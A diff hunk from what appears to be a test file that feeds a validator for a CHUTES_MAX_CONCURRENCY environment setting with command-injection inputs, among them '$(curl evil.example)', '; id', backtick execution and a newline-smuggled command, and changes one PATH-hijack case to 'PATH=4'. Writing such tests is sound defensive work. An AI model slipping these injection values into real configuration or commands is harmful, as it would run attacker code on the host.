@@ -12,7 +12,7 @@ it.each([
   'CHUTES_MAX_CONCURRENCY=$(curl evil.example)',
   'CHUTES_MAX_CONCURRENCY=4; id',
   'CHUTES_MAX_CONCURRENCY=4 id',
-  'PATH=/tmp/evil',
+  'PATH=4',
   '# fine\nid',
   '# fine\rid',
   '`id`',
